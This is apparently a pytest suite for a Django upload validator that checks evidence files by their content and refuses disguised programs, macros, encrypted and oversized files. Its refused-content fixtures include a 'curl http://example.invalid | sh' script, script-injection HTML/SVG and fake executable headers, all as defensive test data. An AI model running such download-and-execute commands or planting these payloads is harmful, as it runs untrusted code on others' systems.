"""Evidence uploads are accepted by content, and renamed programs and macros are refused."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.test import override_settings
from django.utils import translation

from layak.core.uploads import ACCEPTED_EXTENSIONS, CheckedUpload, check_upload

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


# --- building real files of each kind -------------------------------------------------------


def make_pdf() -> bytes:
    return (
        b"%PDF-1.4\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def make_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1, 8-bit RGB
    pixels = zlib.compress(b"\x00\xff\x00\x00")  # filter byte, one red pixel
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def make_jpeg() -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + app0 + b"\xff\xd9"


def make_webp() -> bytes:
    vp8l = b"\x2f\x00\x00\x00\x00\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
    body = b"WEBP" + b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l
    return b"RIFF" + struct.pack("<I", len(body)) + body


def make_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            # A fixed time stamp: the same members give the same bytes on every run.
            member = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            archive.writestr(member, data, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def content_types(main_part: str, main_type: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>'
        "</Types>"
    ).encode()


def docx_members(main_type: str = DOCX_MAIN) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": content_types("word/document.xml", main_type),
        "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
        "word/document.xml": b'<?xml version="1.0"?><w:document><w:body/></w:document>',
    }


def make_docx(**extra: bytes) -> bytes:
    return make_zip(docx_members() | extra)


def make_xlsx(**extra: bytes) -> bytes:
    return make_zip(
        {
            "[Content_Types].xml": content_types("xl/workbook.xml", XLSX_MAIN),
            "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
            "xl/workbook.xml": b'<?xml version="1.0"?><workbook><sheets/></workbook>',
        }
        | extra
    )


def make_ole2(*entries: tuple[str, bytes | None]) -> bytes:
    """A compound file (MS-CFB version 3, 512-byte sectors) holding the given entries.

    Each entry is a path ("Macros/PROJECT") with its stream data, or None for a storage;
    a storage comes before what it holds. Streams are padded to 4096 bytes so that they
    live in the main FAT rather than the mini stream.
    """
    end, free, fat_sector, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    dir_sectors = (len(entries) + 1 + 3) // 4
    fat = [fat_sector] + [*range(2, dir_sectors + 1), end]
    data = b""
    sid_of = {"": 0}
    children: dict[int, list[int]] = {0: []}
    rows: list[tuple[str, int, int, int]] = [("Root Entry", 5, end, 0)]  # name, type, start, size
    for sid, (path, content) in enumerate(entries, start=1):
        parent, _, name = path.rpartition("/")
        sid_of[path] = sid
        children[sid_of[parent]].append(sid)
        if content is None:
            children[sid] = []
            rows.append((name, 1, 0, 0))
            continue
        stream = content.ljust(4096, b"\x00")
        stream += b"\x00" * (-len(stream) % 512)
        start = len(fat)
        count = len(stream) // 512
        fat += [*range(start + 1, start + count), end]
        data += stream
        rows.append((name, 2, start, len(content.ljust(4096, b"\x00"))))
    directory = b""
    for sid, (name, kind, start, size) in enumerate(rows):
        kids = children.get(sid, [])
        siblings = next((k for k in children.values() if sid in k), [])
        right = siblings[siblings.index(sid) + 1] if sid in siblings[:-1] else no_stream
        encoded = (name + "\x00").encode("utf-16-le")
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            encoded,
            len(encoded),
            kind,
            1,  # black
            no_stream,
            right,
            kids[0] if kids else no_stream,
            b"\x00" * 16,
            0,
            0,
            0,
            start,
            size,
        )
    unused = struct.pack("<64sHBBIII16sIQQIQ", b"", 0, 0, 0, *[no_stream] * 3, b"", 0, 0, 0, 0, 0)
    directory += unused * (dir_sectors * 4 - len(rows))
    assert len(fat) <= 128, "one FAT sector is enough for these tests"
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\x00" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\x00" * 6,
        0,
        1,  # one FAT sector
        1,  # the directory starts in sector 1
        0,
        4096,
        end,
        0,
        end,
        0,
    ) + struct.pack("<109I", 0, *[free] * 108)
    fat_bytes = struct.pack("<128I", *(fat + [free] * (128 - len(fat))))
    return header + fat_bytes + directory + data


def make_doc(*extra: tuple[str, bytes | None]) -> bytes:
    return make_ole2(("WordDocument", b"\xec\xa5"), ("1Table", b"table"), *extra)


def make_xls() -> bytes:
    return make_ole2(("Workbook", b"\x09\x08\x10\x00"))


# --- helpers --------------------------------------------------------------------------------


def rejection(
    upload: UploadedFile | File[bytes], *, max_bytes: int | None = None
) -> ValidationError:
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        check_upload(upload, max_bytes=max_bytes)
    return caught.value


def message(error: ValidationError) -> str:
    with translation.override("en"):
        return " ".join(error.messages)


NOT_ACCEPTED = "The file is not an accepted document type (PDF, image, Word or Excel)."


# --- accepted files -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "content", "kind", "content_type", "extension"),
    [
        ("laporan.pdf", make_pdf(), "pdf", "application/pdf", ".pdf"),
        ("foto.jpg", make_jpeg(), "jpeg", "image/jpeg", ".jpg"),
        ("foto.JPEG", make_jpeg(), "jpeg", "image/jpeg", ".jpg"),
        ("peta.png", make_png(), "png", "image/png", ".png"),
        ("kegiatan.webp", make_webp(), "webp", "image/webp", ".webp"),
        (
            "SK Gugus Tugas.DOCX",
            make_docx(),
            "docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            ".docx",
        ),
        (
            "data.xlsx",
            make_xlsx(),
            "xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            ".xlsx",
        ),
        ("notulen.doc", make_doc(), "ole", "application/msword", ".doc"),
        ("anggaran.xls", make_xls(), "ole", "application/vnd.ms-excel", ".xls"),
    ],
)
def test_accepted_type_is_described_by_its_content(
    filename: str, content: bytes, kind: str, content_type: str, extension: str
) -> None:
    # The browser's content type is never trusted.
    upload = SimpleUploadedFile(filename, content, content_type="text/plain")
    checked = check_upload(upload)
    assert checked == CheckedUpload(
        kind=kind,
        content_type=content_type,
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        extension=extension,
    )
    assert upload.tell() == 0
    assert upload.read() == content


def test_checksum_covers_a_file_read_in_many_chunks() -> None:
    content = make_pdf()[:-7] + b"%" + b"x" * 300_000 + b"\n%%EOF\n"
    upload = SimpleUploadedFile("besar.pdf", content)
    checked = check_upload(upload)
    assert checked.size == len(content)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()


def test_plain_django_file_and_name_override() -> None:
    upload = File(io.BytesIO(make_png()), name="upload-tmp")
    checked = check_upload(upload, name="C:\\Users\\opd\\peta.png")
    assert checked.kind == "png"
    assert upload.tell() == 0


def test_accepted_extensions_exclude_csv_and_svg() -> None:
    assert ".pdf" in ACCEPTED_EXTENSIONS
    assert ".csv" not in ACCEPTED_EXTENSIONS
    assert ".svg" not in ACCEPTED_EXTENSIONS


# --- refused content ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("report.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64),
        ("data.xlsx", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64),
        ("notulen.doc", b"#!/bin/sh\ncurl http://example.invalid | sh\n"),
        ("laporan.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
        ("peta.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("arsip.docx", make_zip({"readme.txt": b"hello", "a/b.xml": b"<a/>"})),
        ("data.xlsx", make_zip({"xl/workbook.xml": b"<workbook/>"})),  # no [Content_Types].xml
        ("rusak.docx", b"PK\x03\x04" + b"\x00" * 100),
        ("notulen.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
        ("setup.doc", make_ole2(("SummaryInformation", b"x"), ("!_StringPool", b"x"))),
        ("slide.doc", make_ole2(("PowerPoint Document", b"x"))),
    ],
)
def test_content_that_is_not_an_accepted_document_is_refused(filename: str, content: bytes) -> None:
    error = rejection(SimpleUploadedFile(filename, content))
    assert error.code == "upload_type"
    assert message(error) == NOT_ACCEPTED


def test_truncated_pdf_is_refused() -> None:
    error = rejection(SimpleUploadedFile("laporan.pdf", make_pdf()[:40]))
    assert error.code == "upload_type"
    assert "incomplete or damaged" in message(error)


@pytest.mark.parametrize(
    "content",
    [
        make_zip(docx_members(DOCM_MAIN)),
        make_zip(docx_members() | {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        make_doc(("Macros", None), ("Macros/PROJECT", b"ID=")),
    ],
    ids=["macro-enabled-content-type", "vba-project-part", "legacy-word-macros"],
)
def test_documents_with_macros_are_refused(content: bytes) -> None:
    name = "laporan.doc" if content.startswith(b"\xd0\xcf") else "laporan.docx"
    error = rejection(SimpleUploadedFile(name, content))
    assert error.code == "upload_type"
    assert "macros" in message(error)


@pytest.mark.parametrize(
    "extra",
    [
        {"word/embeddings/evil.exe": b"MZ\x90\x00"},
        {"word/embeddings/Run.PS1": b"Write-Host"},
        {"word/media/image1.png": b"MZ\x90\x00\x03" + b"\x00" * 200},
        {"customXml/item1.xml": b"\x7fELF\x02\x01\x01"},
    ],
    ids=["exe-by-name", "script-by-name", "program-named-as-image", "elf-named-as-xml"],
)
def test_docx_containing_a_program_is_refused(extra: dict[str, bytes]) -> None:
    error = rejection(SimpleUploadedFile("laporan.docx", make_docx(**extra)))
    assert error.code == "upload_type"
    assert "embedded program" in message(error)


def test_password_protected_office_file_is_refused() -> None:
    content = make_ole2(("EncryptionInfo", b"\x04\x00\x04\x00"), ("EncryptedPackage", b"x"))
    error = rejection(SimpleUploadedFile("laporan.docx", content))
    assert error.code == "upload_type"
    assert "Password-protected" in message(error)


def test_document_that_unpacks_far_beyond_the_limit_is_refused() -> None:
    content = make_xlsx(**{"xl/worksheets/sheet1.xml": b"\x00" * 200_000})
    assert len(content) < 2_000
    error = rejection(SimpleUploadedFile("data.xlsx", content), max_bytes=2_000)
    assert error.code == "upload_size"
    # The same file is fine once the limit allows for what it unpacks to.
    assert check_upload(SimpleUploadedFile("data.xlsx", content), max_bytes=30_000).kind == "xlsx"


# --- names, sizes ---------------------------------------------------------------------------


def test_extension_must_match_the_content() -> None:
    error = rejection(SimpleUploadedFile("laporan.pdf", make_png()))
    assert error.code == "upload_extension"
    assert message(error) == (
        "The file name ends in “.pdf” but the file is a PNG image. "
        "Rename it to end in “.png” and upload it again."
    )


@pytest.mark.parametrize(
    ("filename", "content", "detected"),
    [
        ("data.xlsx", make_docx(), "a Word document (.docx)"),
        ("anggaran.xls", make_doc(), "a Word 97-2003 document (.doc)"),
        ("notulen.doc", make_xls(), "an Excel 97-2003 workbook (.xls)"),
        ("foto.jpg", make_webp(), "a WebP image"),
    ],
)
def test_extension_of_the_other_accepted_type_is_refused(
    filename: str, content: bytes, detected: str
) -> None:
    error = rejection(SimpleUploadedFile(filename, content))
    assert error.code == "upload_extension"
    assert detected in message(error)


@pytest.mark.parametrize("filename", ["data.csv", "logo.svg", "setup.exe", "laporan", ".pdf"])
def test_unaccepted_extension_is_refused(filename: str) -> None:
    error = rejection(SimpleUploadedFile(filename, b"a,b\n1,2\n"))
    assert error.code == "upload_extension"


def test_empty_file_is_refused() -> None:
    error = rejection(SimpleUploadedFile("laporan.pdf", b""))
    assert error.code == "upload_empty"
    assert message(error) == "The file is empty."


def test_file_over_max_bytes_is_refused() -> None:
    content = make_pdf()
    error = rejection(SimpleUploadedFile("laporan.pdf", content), max_bytes=len(content) - 1)
    assert error.code == "upload_size"
    assert check_upload(SimpleUploadedFile("laporan.pdf", content), max_bytes=len(content))


@override_settings(LAYAK_UPLOAD_MAX_BYTES=100)
def test_limit_comes_from_settings() -> None:
    error = rejection(SimpleUploadedFile("laporan.pdf", make_pdf() + b" " * 100))
    assert error.code == "upload_size"
    assert "100" in message(error)


class UnreadableIO(io.BytesIO):
    def read(self, size: int | None = -1, /) -> bytes:
        raise AssertionError("the file was read before its declared size was checked")


def test_declared_size_over_the_limit_is_refused_without_reading() -> None:
    upload = UploadedFile(UnreadableIO(b"%PDF-"), name="laporan.pdf", size=50 * 1024 * 1024)
    assert rejection(upload).code == "upload_size"


def test_reading_stops_at_the_limit_when_the_size_is_not_declared() -> None:
    upload = UploadedFile(io.BytesIO(make_pdf() * 1000), name="laporan.pdf", size=None)
    assert rejection(upload, max_bytes=1000).code == "upload_size"
    assert upload.tell() == 0


def test_file_is_rewound_after_a_refusal() -> None:
    upload = SimpleUploadedFile("laporan.pdf", make_docx())
    rejection(upload)
    assert upload.tell() == 0
